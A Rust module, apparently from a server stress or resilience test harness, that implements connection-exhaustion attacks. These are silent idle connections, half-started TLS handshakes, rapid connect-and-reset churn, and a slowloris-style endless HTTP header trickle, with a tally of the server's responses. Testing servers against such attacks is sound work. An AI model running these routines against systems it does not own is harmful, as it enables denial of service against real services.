//! Connections on which no request ever comes.

use std::sync::Arc;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Duration, interval};

use crate::attack::Attack;
use crate::tally::Tally;
use crate::target::{ATTACKER, Target};

/// How often a worker connects again after it was thrown out, and how soon.
const CONNECTIONS: usize = 4;
const AGAIN_AFTER: Duration = Duration::from_millis(250);
/// How long a header line is begun before the next one: slow enough to last, and fast
/// enough that a connection looks alive.
const LINE_EVERY: Duration = Duration::from_millis(250);

/// Connects and says nothing.
pub(crate) fn silent_connections(target: Target, count: usize) -> Attack {
    connections_that_wait(target, count, &[])
}

/// Begins a handshake of TLS and does not go on with it.
pub fn begun_handshakes(target: Target, count: usize) -> Attack {
    /// The first bytes of a record that would hold a ClientHello.
    const BEGINNING: &[u8] = &[22, 3, 1, 2, 0, 1];
    connections_that_wait(target, count, BEGINNING)
}

fn connections_that_wait(target: Target, count: usize, beginning: &'static [u8]) -> Attack {
    Attack::by(count, move |_, tally| async move {
        let mut again = interval(AGAIN_AFTER);
        for _ in 0..CONNECTIONS {
            again.tick().await;
            let Some(mut connection) = connect(target, &tally).await else { continue };
            // Who is thrown out at once sees it when it reads.
            connection.write_all(beginning).await.ok();
            until_closed(connection, &tally).await;
        }
    })
}

/// Connects and goes away at once, again and again.
pub(crate) fn connections_that_go(target: Target, workers: usize, each: usize) -> Attack {
    Attack::by(workers, move |_, tally| async move {
        for _ in 0..each {
            if let Some(connection) = connect(target, &tally).await {
                // Without a goodbye, after which the address could not be used for a while.
                connection.set_zero_linger().ok();
            }
        }
    })
}

/// Begins a request over HTTP/1.1 and adds headers to it for ever.
pub(crate) fn headers_without_end(target: Target, count: usize) -> Attack {
    Attack::by(count, move |_, tally| async move {
        let begin = format!("POST / HTTP/1.1\r\nhost: {}\r\n", target.address);
        let mut lines = interval(LINE_EVERY);
        for _ in 0..CONNECTIONS {
            lines.tick().await;
            let Some(mut connection) = connect(target, &tally).await else { continue };
            let mut sent = connection.write_all(begin.as_bytes()).await;
            while sent.is_ok() {
                lines.tick().await;
                sent = connection.write_all(b"x: y\r\n").await;
            }
            tally.note("closed");
        }
    })
}

/// A connection, if the server lets it in.
pub(super) async fn connect(target: Target, tally: &Tally) -> Option<TcpStream> {
    match target.connect(ATTACKER).await {
        Ok(connection) => {
            tally.note("opened");
            Some(connection)
        }
        Err(_) => {
            tally.note("refused");
            None
        }
    }
}

/// Reads until the server closes, whatever it says before.
pub(super) async fn until_closed(mut connection: TcpStream, tally: &Arc<Tally>) {
    let mut said = [0; 1024];
    while !matches!(connection.read(&mut said).await, Ok(0) | Err(_)) {}
    tally.note("closed");
}
